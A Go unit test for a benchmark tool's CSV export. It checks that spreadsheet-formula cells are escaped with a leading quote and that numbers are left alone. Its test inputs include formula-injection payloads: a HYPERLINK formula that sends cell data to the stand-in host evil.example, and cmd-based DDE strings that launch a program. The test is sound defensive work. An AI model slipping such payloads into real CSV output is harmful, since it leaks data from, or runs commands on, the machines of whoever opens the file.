package render

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
	"time"

	"github.com/prism-compute/prism/bench"
)

// TestCSVNeutralisesFormulas: a text cell that a spreadsheet would run as a formula (a
// device name "=HYPERLINK(...)" from another machine's report, a case, an error, a
// library, a shape beginning with =, +, -, @, a tab or a carriage return) is written with
// a single quote before it; numbers, negative ones included, stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"-3.5", "-3.5"},
		{"+2", "+2"},
		{"-1e-05", "-1e-05"},
		{"-.5", "-.5"},
		{"1e+06", "1e+06"},
		{"-1e", "'-1e"},
		{"-0x1p3", "'-0x1p3"},
		{"-Inf", "'-Inf"},
		{"cuda:0", "cuda:0"},
		{"a=b", "a=b"},
		{"", ""},
	} {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}

	samples := []time.Duration{1000, 1100, 1200}
	d := bench.DeviceReport{Backend: "opencl"}
	d.Device.ID, d.Device.Name = "opencl:0:0", `=HYPERLINK("http://evil.example","x")`
	d.Results = []bench.Result{
		{Case: "+stream/copy/float32", Size: 1024, Shape: "@n=1024", Verified: true, Stats: bench.Summarize(samples), Bytes: 8192, GBs: 7.4, Library: "-lib"},
		{Case: "stream/scale/float32", Size: 1024, Err: "=1+1 failed"},
	}
	rep := &bench.Report{Schema: bench.SchemaVersion, Devices: []bench.DeviceReport{d}}
	var buf bytes.Buffer
	if err := CSV(&buf, rep); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int { return slices.Index(CSVHeader, name) }
	for _, c := range []struct {
		row  int
		col  string
		want string
	}{
		{1, "device_name", `'=HYPERLINK("http://evil.example","x")`},
		{1, "case", "'+stream/copy/float32"},
		{1, "shape", "'@n=1024"},
		{1, "library", "'-lib"},
		{1, "median_ns", "1100"},
		{1, "gbs", "7.4"},
		{2, "error", "'=1+1 failed"},
	} {
		if got := rows[c.row][col(c.col)]; got != c.want {
			t.Errorf("row %d %s = %q, want %q", c.row, c.col, got, c.want)
		}
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && slices.Contains([]byte("=+@\t\r"), cell[0]) {
				t.Errorf("%s = %q begins a formula", CSVHeader[i], cell)
			}
		}
	}
}
